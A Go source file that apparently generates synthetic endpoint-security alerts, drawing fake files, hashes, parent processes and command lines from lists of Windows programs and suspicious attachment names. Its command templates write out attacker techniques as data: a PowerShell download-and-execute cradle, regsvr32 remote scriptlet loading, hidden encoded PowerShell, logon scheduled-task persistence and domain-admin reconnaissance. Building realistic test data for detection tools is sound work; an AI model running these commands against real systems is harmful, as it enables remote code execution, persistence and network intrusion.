package alerts

import "fmt"

// file is a file as evidence shows it.
type file struct {
	name, path        string
	size              int64
	sha1, sha256, md5 string
	publisher         string
	signer, issuer    string
}

// program is an executable of the operating system, as it is known everywhere.
type program struct{ name, path string }

var programs = []program{
	{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0`},
	{"cmd.exe", `C:\Windows\System32`},
	{"rundll32.exe", `C:\Windows\SysWOW64`},
	{"regsvr32.exe", `C:\Windows\System32`},
	{"mshta.exe", `C:\Windows\System32`},
	{"wscript.exe", `C:\Windows\System32`},
	{"schtasks.exe", `C:\Windows\System32`},
	{"net1.exe", `C:\Windows\System32`},
	{"nltest.exe", `C:\Windows\System32`},
	{"WmiPrvSE.exe", `C:\Windows\System32\wbem`},
	{"MsSense.exe", `C:\Program Files\Windows Defender Advanced Threat Protection`},
	{"WINWORD.EXE", `C:\Program Files\Microsoft Office\root\Office16`},
	{"msedge.exe", `C:\Program Files (x86)\Microsoft\Edge\Application`},
}

var parents = []program{
	{"explorer.exe", `C:\Windows`}, {"services.exe", `C:\Windows\System32`}, {"svchost.exe", `C:\Windows\System32`},
	{"OUTLOOK.EXE", `C:\Program Files\Microsoft Office\root\Office16`}, {"cmd.exe", `C:\Windows\System32`},
	{"WmiPrvSE.exe", `C:\Windows\System32\wbem`},
}

// suspects are names that files from outside bear; many are not ASCII, because
// people's documents are not.
var suspects = []string{
	"invoice_2026-11.pdf.exe", "Rechnung_März.pdf.exe", "請求書_11月.xlsm", "Счёт-фактура №17.js", "résumé (final).docx.lnk",
	"setup.exe", "update.dll", "svch0st.exe", "a.ps1", "Änderungsmitteilung.iso", "payload.bin", "7za.exe", "mimi.exe",
	"Bestellung & Lieferschein.zip", "It's urgent!.hta", "günlük_rapor.vbs", "📎 scan.pdf.lnk", "readme \"new\".txt",
}

var folders = []string{
	`C:\Users\%s\Downloads`, `C:\Users\%s\AppData\Local\Temp`, `C:\Users\%s\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup`,
	`C:\ProgramData\%.0s{5f7b2a}`, `C:\Windows\Temp%.0s`, `\\fileserver01\share$\%s`, `C:\Users\%s\Desktop\Übergabe`,
}

func (d *draw) hashed(f file) file {
	f.sha1, f.sha256, f.md5 = d.hex(40), d.hex(64), d.hex(32)
	return f
}

func (d *draw) system(p program) file {
	return d.hashed(file{
		name: p.name, path: p.path, size: int64(d.between(40_000, 4_000_000)),
		publisher: "Microsoft Corporation", signer: "Microsoft Windows", issuer: "Microsoft Windows Production PCA 2011",
	})
}

// suspect is a file that somebody brought in.
func (d *draw) suspect(account string) file {
	return d.hashed(file{
		name: pick(d, suspects), path: fmt.Sprintf(pick(d, folders), account),
		size: int64(d.between(900, 90_000_000)),
	})
}

// process is a running program as evidence shows it.
type process struct {
	image, parent  file
	pid, parentPID int64
	command        string
	started        int64
	parentStarted  int64
}

func (d *draw) process(at int64, f file) process {
	p := process{
		image: d.system(pick(d, programs)), parent: d.system(pick(d, parents)),
		pid: int64(d.between(1, 9000) * 4), parentPID: int64(d.between(1, 3000) * 4),
	}
	p.started = at - int64(d.span(tick, 90*1e9))
	p.parentStarted = p.started - int64(d.span(1e9, 9*3600*1e9))
	p.command = d.command(p.image, f)
	return p
}

// command is a command line for the program. Quotes, backslashes, doubled
// spaces and percent signs are the rule in these.
func (d *draw) command(image, f file) string {
	target := f.path + `\` + f.name
	switch image.name {
	case "powershell.exe":
		if d.chance(0.06) {
			return `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ` + d.base64(d.between(1200, 6000))
		}
		if d.chance(0.5) {
			return `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ` + d.base64(d.between(120, 420))
		}
		return fmt.Sprintf(`"powershell.exe" -c "IEX (New-Object Net.WebClient).DownloadString('http://%s/%s.ps1'); $x = @{ 'k' = \"%s\" }"`, publicIP(d), d.hex(6), f.name)
	case "cmd.exe":
		return fmt.Sprintf(`cmd.exe /c ""%s" /quiet && echo %%TEMP%% > "%s.log""`, target, target)
	case "rundll32.exe":
		return fmt.Sprintf(`rundll32.exe  "%s",#%d`, target, d.between(1, 9))
	case "regsvr32.exe":
		return fmt.Sprintf(`regsvr32.exe /s /n /u /i:http://%s/%s.sct scrobj.dll`, publicIP(d), d.hex(8))
	case "schtasks.exe":
		return fmt.Sprintf(`schtasks /create /sc onlogon /tn "Mise à jour %s" /tr "\"%s\"" /rl highest`, d.hex(4), target)
	case "net1.exe":
		return `C:\Windows\system32\net1  group "Domain Admins" /domain`
	case "nltest.exe":
		return `nltest  /domain_trusts /all_trusts`
	case "mshta.exe", "wscript.exe":
		return fmt.Sprintf(`"%s" "%s"`, image.name, target)
	}
	return fmt.Sprintf(`"%s\%s"`, image.path, image.name)
}

const base64Letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

func (d *draw) base64(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = base64Letters[d.n(64)]
	}
	return string(b)
}
